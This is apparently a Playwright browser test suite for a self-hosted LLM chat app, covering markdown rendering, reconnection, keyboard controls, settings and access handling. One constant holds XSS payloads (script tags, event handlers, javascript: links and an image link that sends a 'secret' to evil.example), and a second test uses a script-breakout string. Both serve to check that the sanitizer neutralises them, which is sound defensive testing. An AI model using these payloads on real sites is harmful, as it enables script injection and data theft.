"""The chat page in a real browser on a running installation."""

from __future__ import annotations

import json
import re
import secrets
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import BrowserContext, Page, Route, expect

from tests.browser.conftest import ready, sign_in
from tests.browser.scenes import MARKDOWN
from tests.live import Live
from tests.micro_models import make_micro

ANSWER = "article.assistant"
HOSTILE = """<script>window.hit = 1</script>
<img src=x onerror="window.hit = 2">
<svg onload="window.hit = 3"><a href="javascript:window.hit=4">x</a></svg>
[click](javascript:window.hit=5) [data](data:text/html,<script>window.hit=6</script>) [vb](vbscript:x)
![exfiltrate](https://evil.example/?q=secret) ![inline](data:image/svg+xml,<svg/onload=alert(1)>)
<iframe src="https://evil.example"></iframe><style>body { display: none }</style><form action="https://evil.example"><button>Send</button></form>
<a href="https://evil.example" class="button primary" style="position:fixed;inset:0" id="composer" onclick="window.hit=7">Click</a>
<details open ontoggle="window.hit=8"><summary>s</summary></details><math><mtext><table><mglyph><style><img src onerror=window.hit=9>
```"><img src=x onerror=window.hit=10>
<b>code</b>
```
[fine](https://example.org "title") <b>bold</b> a<br>b
"""


def compose(page: Page, text: str) -> None:
    """Type a message and send it with Enter."""
    box = page.get_by_label("Message", exact=True)
    box.fill(text)
    box.press("Enter")


def finished(page: Page, count: int = 1) -> None:
    """Wait until so many answers on the page are complete."""
    expect(page.locator(f"{ANSWER}[data-status=completed]")).to_have_count(count)


def make_chat(live: Live, answer: str, question: str = "Question", **generation: Any) -> str:
    """Make a chat of the admin by rows alone and return its path."""
    code = (
        "from tests.browser import scenes\nfrom lmweb.models import User\n"
        f"result = scenes.chat(User.objects.get(username='admin'), {question!r}, {answer!r}, **{generation!r})"
    )
    return f"{live.base_url}/chat/{live.python(code)}"


def module(page: Page, name: str) -> str:
    """Return the URL of one of the page's modules."""
    url: str = page.locator(f"link[rel=modulepreload][href*='/{name}']").evaluate("link => link.href")
    return url


@pytest.fixture(scope="module")
def slow_model(live: Live, tmp_path_factory: pytest.TempPathFactory) -> str:
    """Import a model that writes for many seconds and return its key."""
    file = make_micro(tmp_path_factory.mktemp("browser") / "slow.gguf", layers=96, context=4096, name="browser slow", seed=7)
    live.create_admin()
    live.manage("import_model", str(file), "--copy", "--user-repo", "browser/slow")
    return "browser/slow"


def choose(page: Page, key: str) -> None:
    """Choose a model in the picker of a page that has just been opened."""
    ready(page)
    page.keyboard.press("Control+l")
    page.locator(f".picker-row[data-key='{key}']").click()


def test_own_assets_are_small_and_the_composer_is_soon_usable(context: BrowserContext, page: Page, live: Live) -> None:
    fresh = context.browser.new_context() if context.browser else context
    fresh.add_cookies(context.cookies())  # type: ignore[arg-type]  # what a context gives, another takes
    tab = fresh.new_page()
    tab.goto(live.base_url)
    ready(tab)
    usable = tab.evaluate("() => performance.now()")
    sizes = tab.evaluate("() => performance.getEntriesByType('resource').map(r => [r.name, r.encodedBodySize])")
    fresh.close()
    assert all(url.startswith(live.base_url) for url, _ in sizes)
    assert sum(size for _, size in sizes) < 100_000
    assert usable < 3000  # the promise is 500 ms on an idle machine; tests share theirs


def test_hostile_markdown_does_nothing(page: Page, live: Live) -> None:
    requests: list[str] = []
    page.context.on("request", lambda request: requests.append(request.url))
    page.goto(make_chat(live, HOSTILE))
    answer = page.locator(f"{ANSWER} > .md")
    expect(answer).to_contain_text("fine")
    page.wait_for_timeout(300)
    assert page.evaluate("() => window.hit") is None
    assert [url for url in requests if not url.startswith(live.base_url)] == []
    facts = answer.evaluate(
        """node => ({
            tags: [...new Set([...node.querySelectorAll('*')].map(n => n.localName))],
            bad: [...node.querySelectorAll('*')].filter(n => [...n.attributes].some(a => /^on|^style$|^id$/.test(a.name))).length,
            links: [...node.querySelectorAll('a')].map(a => [a.getAttribute('href'), a.rel, a.target, a.className]),
        })"""
    )
    assert not {"script", "img", "iframe", "style", "form", "math", "object", "mtext"} & set(facts["tags"])
    assert facts["bad"] == 0
    hrefs = [href for href, *_ in facts["links"] if href]
    assert all(href.startswith("https://") for href in hrefs)
    assert all((rel, target, classes) == ("noreferrer noopener", "_blank", "") for _, rel, target, classes in facts["links"])
    assert page.get_by_label("Message", exact=True).is_visible()


def test_growing_markdown_ends_as_the_whole_text_renders(page: Page) -> None:
    """Every way of cutting a text into pieces leads to the same page as rendering it at once."""
    texts = [MARKDOWN, "a\r\nb\r\n\r\n- x\r\n\r\n  y\r\n- z\n\n1. one\n\n   ```js\n   let a\n   ```\n2. two\n\nend", "# A\n\nB\n===\n\n| a |\n|---|\n| 1 |\n\nx",
             "see [it]\n\n[it]: https://example.org\n\nend", "```\nopen fence\n\nwith blank", "> quote\n> more\n\n***\n<b>x</b> <u>\n\ttab"]  # fmt: skip
    different = page.evaluate(
        """async ([url, texts]) => {
            const { GrowingMarkdown, loadLibraries, render } = await import(url);
            await loadLibraries();
            const bad = [];
            for (const text of texts) for (const step of [1, 3, 17]) {
                const grown = document.createElement('div'), whole = document.createElement('div');
                const markdown = new GrowingMarkdown(grown);
                for (let end = 0; end < text.length; end += step) markdown.update(text.slice(0, end));
                markdown.update(text);
                markdown.finish(text);
                whole.append(render(text));
                if (grown.innerHTML.replace(/\\n+/g, '\\n').trim() !== whole.innerHTML.replace(/\\n+/g, '\\n').trim()) bad.push([text, grown.innerHTML, whole.innerHTML]);
            }
            return bad;
        }""",
        [module(page, "markdown"), texts],
    )
    assert different == []


def test_finished_blocks_are_not_touched_again(page: Page) -> None:
    kept = page.evaluate(
        """async url => {
            const { GrowingMarkdown, loadLibraries } = await import(url);
            await loadLibraries();
            const box = document.createElement('div');
            const markdown = new GrowingMarkdown(box);
            markdown.update('First.\\n\\nSecond');
            const first = box.firstElementChild;
            for (let n = 0; n < 200; n++) markdown.update('First.\\n\\nSecond' + ' word'.repeat(n));
            return first === box.firstElementChild && first.textContent === 'First.';
        }""",
        module(page, "markdown"),
    )
    assert kept


def test_a_message_sent_while_the_server_is_away_arrives_once(page: Page, fault_live: Live) -> None:
    live = fault_live
    page.goto(live.base_url)
    choose(page, "lmweb/starter")
    live.kill("web")
    compose(page, "What is GGUF?")
    expect(page.get_by_text("What is GGUF?").first).to_be_visible()
    finished(page)
    expect(page.locator("#offline")).to_be_hidden()
    expect(page.locator(f"{ANSWER} > .md")).to_contain_text("llama.cpp")
    rows = live.rows("SELECT count(*) FROM chat_message WHERE content = 'What is GGUF?' AND chat_id = %s", page.url.rsplit("/", 1)[1])
    assert rows == [(1,)]


def test_the_banner_shows_while_the_connection_is_lost(page: Page, live: Live) -> None:
    page.route_web_socket("**/ws/chat", lambda socket: socket.close())
    page.goto(live.base_url)
    expect(page.locator("#offline")).to_be_visible()
    page.get_by_label("Message", exact=True).fill("kept")
    page.reload()
    expect(page.get_by_label("Message", exact=True)).to_have_value("kept")


def test_a_refused_message_comes_back_into_the_composer(page: Page, live: Live) -> None:
    page.goto(make_chat(live, "Answer"))
    ready(page)
    live.rows("DELETE FROM chat_message WHERE chat_id = %s RETURNING 1", page.url.rsplit("/", 1)[1])
    compose(page, "My careful words")
    expect(page.locator("#composer-alert")).to_contain_text("not an answer of this chat")
    expect(page.get_by_label("Message", exact=True)).to_have_value("My careful words")


def test_keyboard_alone_sends_stops_renames_and_deletes(page: Page, live: Live, slow_model: str) -> None:
    page.goto(live.base_url)
    ready(page)
    page.locator("#set-temperature").evaluate("node => { node.value = '0'; }")  # this model ends a greedy answer never by itself
    page.keyboard.press("Control+l")
    page.keyboard.type("browser")
    page.keyboard.press("Enter")
    page.wait_for_function("() => !document.querySelector(':popover-open')")
    page.get_by_label("Message", exact=True).focus()
    page.keyboard.type("time year")
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("people way")
    page.keyboard.press("Enter")
    expect(page.locator(".bubble")).to_have_text("time year\npeople way")
    page.wait_for_function("() => document.querySelector('article.assistant')?.source.length > 20")
    page.keyboard.press("Escape")
    expect(page.locator(f"{ANSWER}[data-status=cancelled]")).to_have_count(1)
    expect(page.get_by_text("· stopped")).to_be_visible()

    current = page.locator(".chat-item:has([aria-current])")
    current.get_by_role("button").focus()
    page.keyboard.press("Enter")
    page.keyboard.press("Enter")
    page.keyboard.press("Control+a")
    page.keyboard.type("Renamed")
    page.keyboard.press("Enter")
    expect(current.get_by_role("link")).to_have_text("Renamed")
    expect(page).to_have_title("Renamed · lmweb")
    current.get_by_role("button").focus()
    page.keyboard.press("Enter")
    page.keyboard.press("Tab")
    page.keyboard.press("Enter")
    page.get_by_role("button", name="Delete", exact=True).focus()
    page.keyboard.press("Enter")
    page.wait_for_url(f"{live.base_url}/")
    expect(page.locator("#chats")).not_to_contain_text("Renamed")


def test_regenerating_keeps_versions_and_settings_are_kept(page: Page, live: Live) -> None:
    page.goto(live.base_url)
    choose(page, "lmweb/starter")
    page.locator(".bar [data-toggle-panel]").click()
    page.get_by_label("System prompt").fill("Be brief.")
    page.get_by_label("Temperature").fill("0")
    compose(page, "What is GGUF?")
    finished(page)
    first = page.locator(ANSWER).get_attribute("id")
    page.get_by_role("button", name="Regenerate").click()
    expect(page.locator(ANSWER)).not_to_have_id(first or "")
    finished(page)
    expect(page.locator(".versions")).to_contain_text("2 / 2")
    page.get_by_role("link", name="Version before").click()
    expect(page.locator(ANSWER)).to_have_id(first or "")
    expect(page.locator(".versions")).to_contain_text("1 / 2")
    page.wait_for_timeout(500)  # the socket is open by now, and must not bring the newer version back
    expect(page.locator(ANSWER)).to_have_id(first or "")
    expect(page.get_by_label("System prompt")).to_have_value("Be brief.")
    expect(page.get_by_label("Temperature")).to_have_value("0")
    request = live.rows("SELECT request FROM models_app_generation ORDER BY created_at DESC LIMIT 1")[0][0]
    assert request["sampling"] == {"temperature": 0.0}
    assert request["messages"][0] == {"role": "system", "content": "Be brief."}

    page.get_by_label("Max tokens").fill("0")
    expect(page.locator(".field.invalid #set-max_tokens")).to_have_value("0")
    expect(page.locator("#settings-state")).not_to_be_empty()
    page.get_by_label("Max tokens").fill("7")
    expect(page.locator("#settings-state")).to_contain_text("Saved")
    page.locator(".bar [data-toggle-panel]").click()


def test_a_full_context_is_said_and_can_be_handled_otherwise(page: Page, live: Live) -> None:
    chat_id = live.python(
        "from chat.models import Chat, Message\nfrom lmweb.models import User\n"
        "chat = Chat.objects.create(user=User.objects.get(username='admin'), title='Full', sampling={'temperature': 0})\nparent = None\n"
        "for n in range(60):\n"
        "    role = 'assistant' if n % 2 else 'user'\n"
        "    parent = Message.objects.create(chat=chat, parent=parent, role=role, content=f'{n} ' + 'word ' * 60)\n"
        "result = str(chat.pk)"
    )
    said = re.compile(
        r"^The model no longer sees \d+ earlier messages( and \d+ earlier tokens of this conversation)?: the context is full\.$"
    )
    page.goto(f"{live.base_url}/chat/{chat_id}")
    choose(page, "lmweb/starter")
    compose(page, "What is GGUF?")
    expect(page.locator(f"{ANSWER} > .overflow").last).to_have_text(said)
    finished(page, 26)
    page.reload()
    ready(page)
    expect(page.locator(f"{ANSWER} > .overflow").last).to_have_text(said)
    expect(page.locator(f"{ANSWER} > .overflow:visible")).to_have_count(1)

    page.locator(".bar [data-toggle-panel]").click()
    policy = page.get_by_label("When the context is full")
    expect(policy).to_have_value("truncateMiddle")
    policy.select_option("Stop at the limit")
    expect(page.locator("#settings-state")).to_contain_text("Saved")
    compose(page, "And MLX?")
    expect(page.locator(f"{ANSWER}[data-status=failed] .alert")).to_contain_text("the model's context holds 2048")
    page.reload()
    expect(policy).to_have_value("stopAtLimit")
    page.locator(".bar [data-toggle-panel]").click()


def test_how_long_it_thought_is_known_after_a_reload(page: Page, live: Live) -> None:
    page.goto(live.base_url)
    choose(page, "lmweb/starter")
    page.locator("#set-temperature").evaluate("node => { node.value = '0'; }")
    compose(page, "What is 3 + 4? /think")
    finished(page)
    label = page.locator(".reasoning summary")
    expect(label).to_have_text(re.compile(r"^Thought for [\d.]+ s$"))
    before = label.inner_text()
    page.reload()
    expect(label).to_have_text(before)


def test_a_tab_that_is_open_already_sees_the_other_ones_message(context: BrowserContext, page: Page, live: Live) -> None:
    page.goto(live.base_url)
    choose(page, "lmweb/starter")
    compose(page, "What is GGUF?")
    finished(page)
    other = context.new_page()
    other.goto(page.url)
    finished(other)
    compose(page, "What is MLX?")
    finished(other, 2)
    expect(other.locator(".bubble").last).to_have_text("What is MLX?")
    sources = [tab.locator(ANSWER).last.evaluate("node => node.source") for tab in (page, other)]
    assert sources[0] == sources[1] != ""


def test_labels_of_places_fit_and_keep_their_room(page: Page, live: Live) -> None:
    look = """() => [...document.querySelectorAll('.rail nav .rail-item')].map(item => {
        const label = item.querySelector('span');
        return [item.getBoundingClientRect().width, label.getBoundingClientRect().height, label.scrollWidth - label.clientWidth];
    })"""
    for width in (1280, 390, 320):
        page.set_viewport_size({"width": width, "height": 700})
        seen = []
        for path in ("/", "/models/", "/developer/"):
            page.goto(f"{live.base_url}{path}")
            seen.append(page.evaluate(look))
            assert page.evaluate("() => document.documentElement.scrollWidth <= innerWidth")
        assert [label for labels in seen for label in labels if label[1] >= 20 or label[2] > 0] == [], width
        assert [[room for room, *_ in labels] for labels in seen] == [[room for room, *_ in seen[0]]] * 3


def test_people_who_lose_access_are_sent_to_sign_in(context: BrowserContext, live: Live) -> None:
    live.create_admin()  # until there is one, nobody signs in
    name = live.create_user(f"leaver-{secrets.token_hex(4)}")  # who has left in a first try cannot sign in for a second
    page = sign_in(context, live, name)
    ready(page)
    page.wait_for_timeout(500)
    log = live.data_dir / "logs" / "web.log"
    before = log.stat().st_size
    live.python(f"from lmweb.models import User\nuser = User.objects.get(username={name!r})\nuser.is_active = False\nuser.save()")
    page.wait_for_url(re.compile("/sign-in"))
    assert "Traceback" not in log.read_text()[before:]


def test_theme_is_remembered_and_never_flashes(page: Page, live: Live) -> None:
    page.locator("[popovertarget=person-menu]").click()
    page.get_by_role("menuitemradio", name="Dark theme").click()
    seen: list[str] = []

    def look(route: Route) -> None:
        response = route.fetch()
        seen.append(response.text())
        route.fulfill(response=response)

    page.route(f"{live.base_url}/", look)
    page.goto(live.base_url)
    assert 'data-theme="dark"' in seen[0]
    assert page.evaluate("() => getComputedStyle(document.documentElement).backgroundColor") == "rgb(23, 24, 27)"


def test_page_data_cannot_break_out_of_its_element(page: Page, live: Live) -> None:
    text = "</script><script>window.hit = 1</script><!-- <script>"
    page.goto(make_chat(live, text, question=text))
    expect(page.locator(".bubble")).to_have_text(text)
    assert page.locator(ANSWER).evaluate("node => node.source") == text
    assert page.evaluate("() => window.hit") is None
    assert json.loads(page.locator("#chat-data").inner_text())["chat"]["title"].startswith("</script>")


def test_vendored_files_are_listed() -> None:
    folder = Path(__file__).resolve().parents[2] / "static" / "vendor"
    listed = (folder / "VENDORED.md").read_text()
    for file in folder.iterdir():
        assert file.name == "VENDORED.md" or file.name.endswith(".LICENSE.txt") or f"`{file.name}`" in listed
